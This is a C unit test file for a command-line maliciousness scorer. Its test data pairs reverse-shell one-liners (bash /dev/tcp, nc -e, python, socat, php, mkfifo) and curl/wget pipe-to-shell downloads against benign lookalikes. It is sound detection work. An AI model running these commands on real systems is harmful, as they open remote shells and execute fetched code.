/* test_score.c: the embedded model loads and orders known pairs right: a reverse shell or
 * download-and-run scores above its benign lookalike; scores stay in [0,1] for any input; a benign
 * command put in front of an attack does not lower its score; --explain items are the features. */
#include <string.h>
#include "score.h"
#include "tap.h"

static double sc(const char *s)
{
	return score_cmdline(score_model_default(), s, strlen(s), NULL);
}

static void test_default_model(void)
{
	const struct model *m = score_model_default();

	CHECK(m != NULL);
	CHECK(m == score_model_default());
	CHECK(m && m->threshold > 0 && m->threshold < 1 && m->bits >= FEAT_BITS_MIN);
}

static void test_pairs(void)
{
	static const char *const pairs[][2] = {
		{ "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1", "bash -i" },
		{ "nc -e /bin/sh 10.0.0.5 9001", "nc -zv 10.0.0.5 9001" },
		{ "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
		  "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "python3 -c 'print(1)'" },
		{ "curl -s http://10.0.0.1/x.sh | bash", "curl -s http://10.0.0.1/x.sh -o x.sh" },
		{ "mkfifo /tmp/f; nc 1.2.3.4 80 < /tmp/f | /bin/sh > /tmp/f 2>&1",
		  "mkfifo /tmp/f; gzip < /tmp/f > out.gz" },
		{ "socat tcp:10.9.8.7:443 exec:'bash -li',pty,stderr,setsid", "socat - tcp:10.9.8.7:443" },
		{ "php -r '$s=fsockopen(\"10.2.2.2\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
		  "php -r 'echo phpversion();'" },
		/* benign network idioms (docs/scoring.md) against the attack that looks like them */
		{ "bash -c 'bash -i >& /dev/tcp/10.0.0.5/5432 0>&1'",
		  "timeout 1 bash -c 'echo > /dev/tcp/10.0.0.5/5432'" },
		{ "exec 3<>/dev/tcp/127.0.0.1/8080; sh <&3 >&3 2>&3",
		  "exec 3<>/dev/tcp/127.0.0.1/8080; printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3" },
		{ "wget -qO- http://172.17.0.2:80/status | sh", "wget -qO- http://172.17.0.2:80/status" },
		{ "until bash -i >& /dev/tcp/db/5432 0>&1; do sleep 1; done",
		  "until nc -z db 5432; do sleep 1; done" },
	};

	for (size_t i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++) {
		double bad = sc(pairs[i][0]), good = sc(pairs[i][1]);

		CHECKF(bad > good, "pair %zu: %.4f <= %.4f for [%s] vs [%s]", i, bad, good, pairs[i][0],
		       pairs[i][1]);
	}
	CHECK(sc("ls -la; bash -i >& /dev/tcp/1.2.3.4/80 0>&1") >=
	      sc("bash -i >& /dev/tcp/1.2.3.4/80 0>&1") - 1e-12);
}

static void test_range(void)
{
	const char *in[] = { "", "\x01\xff\xfe", "a", ")))", "'''", "$($($(", "\\" };

	for (size_t i = 0; i < sizeof(in) / sizeof(in[0]); i++) {
		double s = sc(in[i]);

		CHECKF(s >= 0 && s <= 1, "%s: %f", in[i], s);
	}
	CHECK(score_cmdline(score_model_default(), "a\0b", 3, NULL) >= 0);
}

static void test_explain(void)
{
	struct score_explain ex;
	const char *cmd = "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1";
	double s = score_cmdline(score_model_default(), cmd, strlen(cmd), &ex);
	int seen_devtcp = 0;

	CHECK(s == sc(cmd));
	CHECK(ex.n > 0 && ex.n <= SCORE_EXPLAIN_MAX && ex.ntokens == 7);
	for (uint32_t i = 0; i < ex.n; i++) {
		seen_devtcp |= strstr(ex.item[i].text, "/dev/tcp") != NULL ||
			       strstr(ex.item[i].text, "<IP>") != NULL;
		if (i)
			CHECK(ex.item[i - 1].weight * ex.item[i - 1].weight >=
			      ex.item[i].weight * ex.item[i].weight);
	}
	CHECK(seen_devtcp);
	CHECK(ex.item[0].weight > 0);
}

int main(void)
{
	RUN(test_default_model);
	RUN(test_pairs);
	RUN(test_range);
	RUN(test_explain);
	return tap_done();
}
